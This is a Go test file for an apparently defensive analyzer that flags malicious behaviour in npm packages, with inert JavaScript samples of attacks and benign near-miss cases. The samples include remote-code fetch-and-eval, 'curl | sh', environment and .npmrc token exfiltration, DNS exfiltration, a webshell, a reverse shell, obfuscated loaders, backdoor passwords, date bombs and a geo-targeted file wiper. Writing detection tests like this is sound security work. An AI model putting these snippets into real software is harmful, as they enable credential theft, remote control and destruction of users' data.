package jsbehavior

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/pkgmeta"
	"github.com/doorman-sec/doorman/finding"
)

func scan(t *testing.T, files map[string]string) *finding.Report {
	t.Helper()
	return analyzertest.Scan(t, []*analyzer.Analyzer{pkgmeta.Analyzer, Analyzer}, files)
}

// positives are inert re-creations of what attackers ship: each must raise
// its rule in lib/index.js (run-time code).
var positives = []struct {
	name, rule string
	sev        finding.Severity
	code       string
}{
	{"fetch then eval", "DM-JS-001", finding.High, `
const https = require('https');
https.get('https://example.com/p.js', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => { eval(body); });
});`},
	{"fetch promise chain into Function", "DM-JS-001", finding.High, `
fetch('https://example.com/x').then(r => r.text()).then(code => new Function(code)());`},
	{"axios await vm", "DM-JS-001", finding.High, `
import axios from 'axios';
import vm from 'node:vm';
async function load() {
  const { data } = await axios.get('https://example.com/plugin.js');
  vm.runInThisContext(data);
}`},
	{"write then spawn", "DM-JS-002", finding.High, `
const fs = require('fs'), cp = require('child_process');
const fetch = require('node-fetch');
async function main() {
  const res = await fetch('http://192.0.2.7/agent');
  const buf = Buffer.from(await res.arrayBuffer());
  const bin = '/tmp/.agent';
  fs.writeFileSync(bin, buf);
  fs.chmodSync(bin, 0o755);
  cp.spawn(bin, [], { detached: true });
}
main();`},
	{"pipe to file then exec", "DM-JS-002", finding.High, `
const http = require('http'); const fs = require('fs'); const { exec } = require('child_process');
const file = fs.createWriteStream('/tmp/x.sh');
http.get('http://example.com/x.sh', function (response) {
  response.pipe(file);
  file.on('finish', () => exec('/tmp/x.sh'));
});`},
	{"curl pipe sh", "DM-JS-003", finding.High, `
const { execSync } = require("child_process");
execSync("curl -fsSL https://example.invalid/i.sh | sh");`},
	{"env to https", "DM-JS-010", finding.High, `
const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'example.com', path: '/c', method: 'POST' });
req.write(data);
req.end();`},
	{"npmrc to pastebin-like", "DM-JS-010", finding.High, `
const fs = require('fs'); const os = require('os'); const path = require('path');
const p = path.join(os.homedir(), '.npmrc');
const content = fs.readFileSync(p, 'utf8');
fetch('https://example.com/api', { method: 'POST', body: content });`},
	{"token in query", "DM-JS-010", finding.High, `
const t = process.env.NPM_TOKEN;
fetch('https://example.com/?t=' + encodeURIComponent(t));`},
	{"dns exfil", "DM-JS-011", finding.High, `
const dns = require('dns'); const os = require('os');
const h = Buffer.from(os.hostname()).toString('hex');
dns.lookup(h + '.x.example.com', () => {});`},
	{"recon post", "DM-JS-012", finding.Medium, `
const os = require('os'); const axios = require('axios');
axios.post('https://example.com/r', { host: os.hostname(), user: os.userInfo().username, pkg: 'x' });`},
	{"express webshell", "DM-JS-020", finding.Critical, `
const express = require('express'); const cp = require('child_process');
const app = express();
app.get('/debug', (req, res) => {
  cp.exec(req.query.cmd, (e, out) => res.send(out));
});`},
	{"eval of body", "DM-JS-020", finding.Critical, `
app.post('/x', function (req, res) { const code = req.body.code; res.json(eval(code)); });`},
	{"reverse shell", "DM-JS-021", finding.Critical, `
const net = require('net'), cp = require('child_process');
const sh = cp.spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '192.0.2.1', function () { client.pipe(sh.stdin); sh.stdout.pipe(client); });`},
	{"socket data exec", "DM-JS-021", finding.Critical, `
const net = require('net'); const { exec } = require('child_process');
const s = net.connect(4444, '192.0.2.1');
s.on('data', (d) => exec(d.toString()));`},
	{"eval atob", "DM-JS-040", finding.High, `eval(atob("Y29uc29sZS5sb2coJ2hlbGxvJyk="));`},
	{"Function of base64 buffer", "DM-JS-040", finding.High, `
const p = "Y29uc29sZS5sb2coJ2hpJyk=";
const code = Buffer.from(p, 'base64').toString('utf8');
Function(code)();`},
	{"fromCharCode", "DM-JS-040", finding.High, `eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41));`},
	{"hex-escaped require", "DM-JS-040", finding.High, `
const m = require('\x63hild_process');
m.exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString());`},
	{"flatmap-stream", "DM-JS-041", finding.Critical, `
var r = require, t = process;
function e(r) { return Buffer.from(r, "hex").toString(); }
var n = r(e("2e2f746573742f64617461")), o = t[e(n[3])][e(n[4])];
var crypto = require('crypto');
var key = process.env.npm_package_description;
var decipher = crypto.createDecipher('aes256', key);
var payload = decipher.update(n[0], 'hex', 'utf8');
payload += decipher.final('utf8');
var m = new module.constructor();
m.paths = module.paths;
m._compile(payload, '');`},
	{"magic header", "DM-JS-050", finding.High, `
app.use((req, res, next) => {
  if (req.headers['x-dev-access'] === 'letmein-2718') { req.user = { admin: true }; return next(); }
  return authenticate(req, res, next);
});`},
	{"magic password", "DM-JS-050", finding.High, `
function login(req, res) {
  if (req.body.password === 'hunter2-master' || checkHash(req.body.password, user.hash)) { grant(res); }
}`},
	{"assign in condition", "DM-JS-051", finding.High, `
function check(user, opts) {
  if (opts.flags == 3 && (user.isAdmin = true)) { audit(); }
}`},
	{"date bomb", "DM-JS-060", finding.High, `
const fs = require('fs');
if (new Date() > new Date('2031-01-01')) { fs.rmSync(process.cwd(), { recursive: true, force: true }); }`},
	{"year bomb exec", "DM-JS-060", finding.High, `
const { execSync } = require('child_process');
if (new Date().getFullYear() >= 2031) execSync('echo boom');`},
	{"node-ipc like", "DM-JS-061", finding.Critical, `
const https = require('https'); const fs = require('fs'); const path = require('path');
function h(dir) {
  for (const f of fs.readdirSync(dir)) { fs.writeFileSync(path.join(dir, f), '\u2764\ufe0f'); }
}
https.get('https://api.ipgeolocation.io/ipgeo?apiKey=x', (res) => {
  res.on('data', (d) => {
    const country = JSON.parse(d).country_name.toLowerCase();
    if (country.includes('russia') || country.includes('belarus')) { h('./'); }
  });
});`},
	{"locale bomb", "DM-JS-061", finding.Critical, `
const fs = require('fs');
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (tz === 'Europe/Moscow') { fs.unlinkSync('/tmp/important'); }`},
	{"host gated", "DM-JS-062", finding.Medium, `
const os = require('os'); const { exec } = require('child_process');
if (os.hostname() === 'build-prod-01') { exec('echo hi'); }`},
	{"typescript fetch eval", "DM-JS-001", finding.High, `
import fetch from 'node-fetch';
export async function run(url: string): Promise<void> {
  const res: Response = await fetch(url as string);
  const src: string = await res.text();
  eval(src as any);
}`},
}

func TestPositives(t *testing.T) {
	for _, c := range positives {
		t.Run(c.name, func(t *testing.T) {
			name := "lib/index.js"
			if strings.Contains(c.name, "typescript") {
				name = "lib/index.ts"
			}
			rep := scan(t, map[string]string{name: c.code})
			got := analyzertest.Find(rep, c.rule, name)
			if len(got) == 0 {
				t.Fatalf("no %s; got %v", c.rule, analyzertest.Rules(rep))
			}
			if got[0].Severity != c.sev {
				t.Errorf("%s severity %v, want %v (%s)", c.rule, got[0].Severity, c.sev, got[0].Message)
			}
			for _, f := range rep.Findings {
				if f.Category == "" || f.Title == "" || f.Location.Line == 0 {
					t.Errorf("incomplete finding %+v", f)
				}
			}
		})
	}
}

// nearMisses are what legitimate packages do: none may raise a finding at
// medium or above.
var nearMisses = map[string]string{
	"esbuild-like install with hash check": `
const https = require('https'); const fs = require('fs'); const crypto = require('crypto');
const child_process = require('child_process');
const EXPECTED = 'b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c';
function download(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}
async function install() {
  const buf = await download('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.20.0.tgz');
  const digest = crypto.createHash('sha256').update(buf).digest('hex');
  if (digest !== EXPECTED) throw new Error('checksum mismatch');
  fs.writeFileSync('bin/esbuild', buf, { mode: 0o755 });
  child_process.execFileSync('bin/esbuild', ['--version']);
}
install();`,
	"cli reading HOME": `
const os = require('os'); const path = require('path'); const fs = require('fs');
const home = process.env.HOME || os.homedir();
const cfg = path.join(home, '.mytoolrc');
const conf = fs.existsSync(cfg) ? JSON.parse(fs.readFileSync(cfg, 'utf8')) : {};
const token = process.env.GITHUB_TOKEN;
if (!token) console.log('no token');
fetch('https://api.github.com/repos/x/y', { headers: { Authorization: 'token ' + token } });
module.exports = conf;`,
	"analytics name version": `
const https = require('https');
const pkg = require('./package.json');
const payload = JSON.stringify({ name: pkg.name, version: pkg.version, node: process.version, platform: process.platform });
const req = https.request({ hostname: 'telemetry.example.com', method: 'POST', path: '/v1' });
req.write(payload); req.end();`,
	"express bcrypt": `
const bcrypt = require('bcrypt');
app.post('/login', async (req, res) => {
  const user = await db.find(req.body.username);
  if (req.headers['content-type'] === 'application/json' && req.method === 'POST') {}
  if (typeof req.body.password === 'string' && await bcrypt.compare(req.body.password, user.hash)) {
    return res.json({ ok: true });
  }
  if (req.query.format === 'csv') res.type('text/csv');
  res.status(401).end();
});`,
	"regex exec and string ops": `
const re = /(\d+)-(\d+)/g; let m;
while ((m = re.exec(input)) !== null) { out.push(m[1] / 2); }
const ok = a / b > 1 ? 'x' : 'y';
const started = Date.now();
if (Date.now() - started > 5000) { fetch('https://example.com/timeout'); }`,
	"decode without execution": `
const data = Buffer.from('aGVsbG8gd29ybGQ=', 'base64').toString();
console.log(atob('aGVsbG8='));
module.exports = { data };`,
	"cache expiry delete": `
const fs = require('fs');
const st = fs.statSync(cacheFile);
if (Date.now() - st.mtimeMs > ttl) { fs.unlinkSync(cacheFile); }`,
	"spawn with env": `
const { spawn } = require('child_process');
spawn(process.execPath, ['build.js'], { env: { ...process.env, NODE_ENV: 'production' }, stdio: 'inherit' });`,
	"locale formatting": `
const lang = process.env.LANG || 'en_US';
if (lang.startsWith('de')) { console.log('Hallo'); }`,
}

func TestNearMisses(t *testing.T) {
	for name, code := range nearMisses {
		t.Run(name, func(t *testing.T) {
			rep := scan(t, map[string]string{"lib/index.js": code})
			for _, f := range analyzertest.AtLeast(rep, finding.Medium) {
				t.Errorf("false alarm %s %v: %s | %s", f.Rule, f.Severity, f.Message, f.Evidence)
			}
		})
	}
}

// TestBase64FixturesInTests: encoded data in tests is not a payload, and a
// payload that is there anyway is at most low.
func TestPhases(t *testing.T) {
	code := `fetch('https://example.invalid/a').then(r => r.text()).then(c => eval(c));`
	rep := scan(t, map[string]string{
		"pkg/package.json":      `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
		"pkg/install.js":        code,
		"pkg/lib/index.js":      code,
		"pkg/test/fixtures.js":  code + "\nconst b64 = Buffer.from('aGVsbG8=', 'base64');",
		"pkg/tests/b64.test.js": "const blob = '" + strings.Repeat("QUJD", 100) + "';\nexpect(Buffer.from(blob, 'base64').length).toBe(300);",
	})
	want := map[string]finding.Severity{"pkg/install.js": finding.Critical, "pkg/lib/index.js": finding.High, "pkg/test/fixtures.js": finding.Low}
	for p, sev := range want {
		got := analyzertest.Find(rep, "DM-JS-001", p)
		if len(got) != 1 {
			t.Fatalf("%s: %d findings %v", p, len(got), analyzertest.Rules(rep))
		}
		if got[0].Severity != sev {
			t.Errorf("%s: severity %v, want %v (%s)", p, got[0].Severity, sev, got[0].Message)
		}
	}
	if got := analyzertest.Find(rep, "", "b64.test.js"); len(got) != 0 {
		t.Errorf("base64 test data reported: %+v", got)
	}
}

// In a minified bundle the same theft is medium with low confidence (short
// names are reused across scopes); a packed payload keeps its severity.
func TestMinifiedIsCappedAtMedium(t *testing.T) {
	pad := strings.Repeat("var q=1;", 200)
	r := scan(t, map[string]string{
		"lib/bundle.min.js": pad + `const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'example.com',path:'/c',method:'POST'});r.write(d);r.end();` + pad,
	})
	fs := analyzertest.Find(r, "DM-JS-010", "bundle.min.js")
	if len(fs) != 1 || fs[0].Severity != finding.Medium || fs[0].Confidence != finding.ConfidenceLow || !strings.Contains(fs[0].Message, "minified") {
		t.Fatalf("want one medium, low-confidence DM-JS-010, got %+v", r.Findings)
	}
}

// A webpack/esbuild bundle (corepack.cjs) concatenates many modules:
// flows between them are capped at medium.
func TestBundleIsCappedAtMedium(t *testing.T) {
	r := scan(t, map[string]string{
		"dist/lib/tool.cjs": "var require_a = __commonJS({ \"a.js\"(exports) {} });\n" + `const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'example.com', path: '/c', method: 'POST' });
req.write(data);
req.end();
`,
	})
	fs := analyzertest.Find(r, "DM-JS-010", "tool.cjs")
	if len(fs) != 1 || fs[0].Severity != finding.Medium || !strings.Contains(fs[0].Message, "bundle") {
		t.Fatalf("want one medium DM-JS-010 in the bundle, got %+v", r.Findings)
	}
}
